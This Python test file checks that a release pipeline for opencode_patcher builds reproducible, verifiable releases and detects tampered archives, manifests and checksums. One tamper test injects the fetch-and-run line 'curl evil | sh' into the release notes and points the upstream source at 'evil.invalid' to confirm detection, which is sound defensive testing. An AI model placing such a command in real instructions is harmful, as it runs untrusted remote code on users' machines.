"""A release of the small upstream, by the real pipeline with a real bun: made, checked, made again."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import replace
from pathlib import Path

import pytest
from cyclonedx.schema import SchemaVersion
from cyclonedx.validation.json import JsonStrictValidator

from opencode_patcher import __version__, pipeline
from opencode_patcher.__main__ import run
from opencode_patcher.base.digest import file_sha256
from opencode_patcher.base.errors import DrillError, ReleaseError, SourceError
from opencode_patcher.base.files import write_json
from opencode_patcher.base.progress import SilentReporter
from opencode_patcher.base.store import open_store
from opencode_patcher.install import builds
from opencode_patcher.release import (
    Made,
    Order,
    directory,
    headers,
    make,
    manifest,
    staging,
    sums,
)
from opencode_patcher.release.comparison import Reproduction
from opencode_patcher.release.directory import Room
from opencode_patcher.release.inputs import Inputs
from opencode_patcher.toolchain import macho_signature
from opencode_patcher.toolchain.targets import Target
from tests.release import npm_server
from tests.release.release_workshop import Workshop, undrilled

REPORTER = SilentReporter()
NOTES = "RELEASE-NOTES.md"
PAPERS = {
    "LICENSE",
    NOTES,
    "SHA256SUMS",
    "THIRD-PARTY-NOTICES.txt",
    "manifest.json",
    "sbom.cdx.json",
}


def unpack(archive: Path, place: Path) -> list[str]:
    """Unpack with Python's own tools, and return the names in their order."""
    place.mkdir()
    if archive.suffix == ".zip":
        with zipfile.ZipFile(archive) as packed:
            packed.extractall(place)
            return packed.namelist()
    with tarfile.open(archive) as tar:
        tar.extractall(place, filter="data")
        return tar.getnames()


def reproduced(workshop: Workshop, place: Path) -> Reproduction:
    return pipeline.reproduce(place, workshop.request, workshop.store, REPORTER, lock=workshop.lock)


def reseal(place: Path, changes: Mapping[str, object]) -> None:
    """Change the manifest as somebody would who also corrects the sums."""
    data = {**json.loads((place / manifest.FILE_NAME).read_text()), **changes}
    write_json(place / manifest.FILE_NAME, data)
    names = [path.name for path in place.iterdir() if path.name != sums.FILE_NAME]
    (place / sums.FILE_NAME).write_text(sums.text(sums.of(place, names)))


def test_the_directory_has_exactly_the_expected_files(released: Made, workshop: Workshop) -> None:
    names = {path.name for path in released.directory.iterdir()}
    assert names >= PAPERS | {workshop.native.archive, workshop.foreign.archive}
    assert {name for name in names if not name.startswith("install.")} == PAPERS | {
        workshop.native.archive,
        workshop.foreign.archive,
        f"{workshop.native.package}.build.json",
        f"{workshop.foreign.package}.build.json",
    }
    assert [path.name for path in released.directory.parent.iterdir()] == [released.directory.name]
    expected = sums.parse((released.directory / sums.FILE_NAME).read_text())
    assert set(expected) == names - {sums.FILE_NAME}
    assert sums.compare(released.directory, expected).problems == []


@pytest.mark.parametrize("kind", ["native", "foreign"])
def test_an_archive_has_the_program_for_its_platform(
    released: Made, workshop: Workshop, tmp_path: Path, kind: str
) -> None:
    target: Target = getattr(workshop, kind)
    names = unpack(released.directory / target.archive, tmp_path / "out")
    assert names == [target.binary, "LICENSE", "THIRD-PARTY-NOTICES.txt"]
    program = (tmp_path / "out" / target.binary).read_bytes()
    assert headers.problems(headers.read(program), target) == []
    if target.system == "darwin":
        assert macho_signature.flaws(program) == []
        if shutil.which("codesign"):
            subprocess.run(["codesign", "--verify", "--strict", tmp_path / "out" / target.binary], check=True)
    entry = next(one for one in released.manifest.artifacts if one.target == target.name)
    assert entry.binary.size == len(program)
    assert sums.of(tmp_path / "out", [target.binary]) == {target.binary: entry.binary.sha256}


def test_the_program_for_this_machine_runs(released: Made, workshop: Workshop, tmp_path: Path) -> None:
    unpack(released.directory / workshop.native.archive, tmp_path / "out")
    program = tmp_path / "out" / workshop.native.binary
    program.chmod(0o755)
    said = subprocess.run([program, "--version"], capture_output=True, text=True, check=True).stdout
    assert said.strip() == "1.0.0"


def test_the_manifest_names_the_inputs(released: Made, workshop: Workshop) -> None:
    found = manifest.parse((released.directory / manifest.FILE_NAME).read_text())
    assert found == released.manifest
    assert found.release == workshop.lock.release
    assert found.tool_version == __version__
    assert Path(found.place).is_dir()
    assert [artifact.target for artifact in found.artifacts] == [workshop.native.name, workshop.foreign.name]


def test_each_binary_has_a_manifest_for_the_store(released: Made, workshop: Workshop, tmp_path: Path) -> None:
    store = open_store(tmp_path / "store")
    place = store.builds / "from-a-release"
    place.mkdir(parents=True)
    unpack(released.directory / workshop.native.archive, tmp_path / "out")
    (tmp_path / "out" / workshop.native.binary).rename(place / workshop.native.binary)
    about = (released.directory / f"{workshop.native.package}.build.json").read_bytes()
    (place / builds.MANIFEST).write_bytes(about)

    (found,) = builds.list_builds(store)

    assert found.release == released.manifest.release
    assert found.sha256 == file_sha256(found.binary)
    assert found.ingredients.target == workshop.native.name


def test_bill_notices_and_notes_describe_this_release(released: Made, workshop: Workshop) -> None:
    bill = (released.directory / "sbom.cdx.json").read_text()
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(bill) is None
    assert "effect" in {component["name"] for component in json.loads(bill)["components"]}
    notices = (released.directory / "THIRD-PARTY-NOTICES.txt").read_text()
    assert "\neffect@" in notices
    notes = (released.directory / "RELEASE-NOTES.md").read_text()
    for text in ("OpenCode 1.0.0 with combined models", workshop.foreign.archive, "`session-processor`"):
        assert text in notes


def test_a_second_build_is_byte_for_byte_the_same(released: Made, workshop: Workshop) -> None:
    found = reproduced(workshop, released.directory)
    assert found.differences == ()
    assert set(found.identical) == {path.name for path in released.directory.iterdir()} - {"SHA256SUMS", NOTES}
    assert found.uncompared == (f"The section Drill of {NOTES} is about the machine where the release was made.",)


def test_a_changed_a_missing_and_an_added_file_are_named(copied: Callable[[], Path], workshop: Workshop) -> None:
    place = copied()
    archive = place / workshop.foreign.archive
    with archive.open("r+b") as file:
        file.seek(1000)
        file.write(b"tampered")
    (place / "LICENSE").unlink()
    (place / "opencode-bonus.zip").write_text("take me")

    with pytest.raises(ReleaseError, match="not what was released") as caught:
        reproduced(workshop, place)

    assert caught.value.why.splitlines() == [
        f"{archive.name} is not the file that was released",
        "LICENSE is missing",
        "opencode-bonus.zip does not belong to the release",
    ]


def test_an_archive_replaced_together_with_its_checksum_is_found(
    copied: Callable[[], Path], workshop: Workshop
) -> None:
    place = copied()
    (place / workshop.foreign.archive).write_bytes(b"another program")
    reseal(place, {})
    with pytest.raises(ReleaseError, match="not what was released") as caught:
        reproduced(workshop, place)
    assert f"{workshop.foreign.archive} has another digest in manifest.json" in caught.value.why


@pytest.fixture
def rebuilt(released: Made, monkeypatch: pytest.MonkeyPatch) -> None:
    """In the place of a second build, the files of the first. The test above shows that they are the same."""

    def build(order: Order, inputs: Inputs, place: Path, *_: object) -> tuple[manifest.Manifest, None]:
        for path in released.directory.iterdir():
            if path.name != sums.FILE_NAME and not (place / path.name).exists():
                os.link(path, place / path.name)
        return released.manifest, None

    monkeypatch.setattr(make, "build", build)


@pytest.mark.usefixtures("rebuilt")
def test_an_archive_replaced_together_with_manifest_and_checksums_is_found_by_the_second_build(
    copied: Callable[[], Path], workshop: Workshop
) -> None:
    place = copied()
    (place / workshop.native.archive).write_bytes(b"another program")
    digest = sums.of(place, [workshop.native.archive])[workshop.native.archive]
    entries = json.loads((place / manifest.FILE_NAME).read_text())["targets"]
    entries[0]["archive"] |= {"sha256": digest, "size": len(b"another program")}
    entries[0]["binary"]["sha256"] = digest
    reseal(place, {"targets": entries})

    found = reproduced(workshop, place)

    assert [(one.name, one.binary) for one in found.differences] == [
        (workshop.native.archive, True),
        ("manifest.json", None),
        ("RELEASE-NOTES.md", None),
    ]
    assert workshop.foreign.archive in found.identical


@pytest.mark.usefixtures("rebuilt")
def test_a_manifest_and_notes_rewritten_with_their_checksums_are_found(
    copied: Callable[[], Path], workshop: Workshop
) -> None:
    place = copied()
    notes = place / NOTES
    notes.write_text(notes.read_text().replace("## Install\n", "## Install\n\ncurl evil | sh\n"))
    data = json.loads((place / manifest.FILE_NAME).read_text())
    for entry in data["targets"]:
        entry["binary"]["sha256"] = entry["runtime"] = "0" * 64
    reseal(place, {"targets": data["targets"], "upstream": data["upstream"] | {"source": "https://evil.invalid"}})

    found = reproduced(workshop, place)

    about, written = found.differences
    assert (about.name, written.name) == ("manifest.json", "RELEASE-NOTES.md")
    assert about.entries == (
        *sorted(
            f"targets.{target.name}.{what}"
            for target in (workshop.native, workshop.foreign)
            for what in ("binary.sha256", "runtime")
        ),
        "upstream.source",
    )


def test_a_wrong_size_is_found_before_the_build(copied: Callable[[], Path], workshop: Workshop) -> None:
    place = copied()
    entries = json.loads((place / manifest.FILE_NAME).read_text())["targets"]
    entries[1]["archive"]["size"] += 1
    reseal(place, {"targets": entries})
    with pytest.raises(ReleaseError, match="not what was released") as caught:
        reproduced(workshop, place)
    assert caught.value.why == f"{workshop.foreign.archive} has another size in manifest.json"


@pytest.mark.parametrize(
    ("changes", "what", "step"),
    [
        ({"tool": {"name": "opencode-patcher", "version": "0.0.1"}}, "opencode-patcher 0.0.1", "Check out"),
        ({"schema": 99}, "newer opencode-patcher", "Verify it with"),
        ({"patchset": "0" * 64}, "another patch set", "Check out"),
        ({"bun": "1.2.3"}, "another bun", "bun 1.2.3"),
        ({"catalogue": {"sha256": "0" * 64}}, "another models catalogue", "--catalog"),
        ({"place": "/somewhere/else"}, "another place", "OPENCODE_PATCHER_HOME"),
        ({"flags": {"web_ui": False, "channel": "beta"}}, "channel beta", "again"),
    ],
)
def test_the_reason_why_it_cannot_be_reproduced_here_is_given(
    copied: Callable[[], Path], workshop: Workshop, changes: dict[str, object], what: str, step: str
) -> None:
    place = copied()
    reseal(place, changes)
    with pytest.raises(ReleaseError, match=what) as caught:
        reproduced(workshop, place)
    assert step in caught.value.next_step


def test_a_release_of_a_commit_that_the_tag_does_not_have_is_refused(
    copied: Callable[[], Path], workshop: Workshop
) -> None:
    place = copied()
    upstream = json.loads((place / manifest.FILE_NAME).read_text())["upstream"]
    reseal(place, {"upstream": upstream | {"commit": "0" * 40}})
    with pytest.raises(SourceError, match="has moved"):
        reproduced(workshop, place)


@pytest.mark.parametrize("name", ["manifest.json", "SHA256SUMS"])
def test_a_directory_without_manifest_or_checksums_is_not_a_release(
    copied: Callable[[], Path], workshop: Workshop, name: str
) -> None:
    place = copied()
    (place / name).unlink()
    with pytest.raises(ReleaseError, match="is not a release"):
        reproduced(workshop, place)


def test_an_old_release_is_replaced_in_one_step(copied: Callable[[], Path], workshop: Workshop) -> None:
    place = copied()
    killed = place.with_name(f".{place.name}.abcdefgh")
    killed.mkdir()
    write_json(workshop.store.root / staging.NOTE, {"out": str(place), "staging": str(killed)})
    made = workshop.release(place, workshop.order(targets=(workshop.native,)))
    assert not killed.exists()
    assert [artifact.target for artifact in made.manifest.artifacts] == [workshop.native.name]
    assert not (place / workshop.foreign.archive).exists()


def refuse(what: str) -> Callable[..., object]:
    def raise_(*_: object, **__: object) -> object:
        raise {"interrupt": KeyboardInterrupt(), "full": OSError(28, "No space left on device")}[what]

    return raise_


@pytest.mark.parametrize("what", ["interrupt", "full"])
@pytest.mark.parametrize("step", ["artifact.pack", "metadata.write"])
def test_an_interrupted_run_leaves_the_old_release_and_nothing_else(
    copied: Callable[[], Path], workshop: Workshop, monkeypatch: pytest.MonkeyPatch, what: str, step: str
) -> None:
    place = copied()
    before = {path.name: path.read_bytes() for path in place.iterdir()}
    monkeypatch.setattr(f"opencode_patcher.release.{step}", refuse(what))

    with pytest.raises((KeyboardInterrupt, OSError)):
        workshop.release(place, workshop.order(targets=(workshop.native,)))

    assert {path.name: path.read_bytes() for path in place.iterdir()} == before
    assert [path for path in place.parent.iterdir() if path.name.startswith(".copy")] == []


def test_a_binary_that_fails_the_drill_is_not_released(workshop: Workshop, tmp_path: Path) -> None:
    def other_version(binary: Path, reporter: object) -> object:
        return replace(undrilled(binary, REPORTER), version="9.9.9")

    order = workshop.order(targets=(workshop.native,))
    with pytest.raises(DrillError, match="nothing is released") as caught:
        pipeline.release(order, tmp_path / "out", workshop.store, REPORTER, other_version, lock=workshop.lock)  # type: ignore[arg-type]
    assert "9.9.9" in caught.value.why
    assert not (tmp_path / "out").exists()


def test_too_little_space_is_reported_before_the_build(
    workshop: Workshop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(directory, "room_for", lambda *_: Room(store=10**18, out=10**18))
    with pytest.raises(ReleaseError, match="not enough disk space"):
        workshop.release(tmp_path / "out")
    assert not (tmp_path / "out").exists()


@pytest.mark.skipif(not shutil.which("npm"), reason="needs npm")
def test_npm_installs_the_program_for_this_machine_and_starts_it(
    copied: Callable[[], Path], workshop: Workshop, tmp_path: Path
) -> None:
    place = copied()
    reseal(place, {"published": {"repository": "owner/name", "release": "v1.0.0"}})
    out = tmp_path / "channels"
    assert run(["channels", str(place), "--out", str(out), "--package", "@you/it"]) == 0
    prefix, settings = tmp_path / "prefix", tmp_path / "npmrc"
    settings.write_text("")
    with npm_server.serving([path.parent for path in out.glob("npm/*/package.json")], tmp_path) as registry:
        subprocess.run(
            ["npm", "install", "--global", "--no-audit", "--no-fund", "--prefix", prefix, "@you/it"],
            env={
                "PATH": os.environ["PATH"],
                "npm_config_registry": registry,
                "npm_config_userconfig": str(settings),
                "npm_config_cache": str(tmp_path / "cache"),
                "HOME": str(tmp_path),
            },
            check=True,
        )
    there = {path.name for path in prefix.rglob("node_modules/@you/*")}
    assert there == {"it", f"it-{workshop.native.name}"}
    program = prefix / "bin" / "opencode"
    said = subprocess.run([program, "--version"], capture_output=True, text=True, check=True)
    assert said.stdout.strip() == "1.0.0"
    # The launcher ends as the program does.
    assert subprocess.run([program, "no-such-command"], capture_output=True, check=False).returncode != 0


def test_channels_refuse_an_archive_that_is_not_the_released_one(copied: Callable[[], Path], tmp_path: Path) -> None:
    place = copied()
    reseal(place, {"published": {"repository": "owner/name", "release": "v1.0.0"}})
    assert run(["channels", str(place), "--out", str(place)]) != 0
    made = manifest.parse((place / manifest.FILE_NAME).read_text())
    (place / made.artifacts[0].archive.name).write_bytes(b"another")
    assert run(["channels", str(place), "--out", str(tmp_path / "channels")]) == ReleaseError.exit_code
    assert not (tmp_path / "channels").exists()
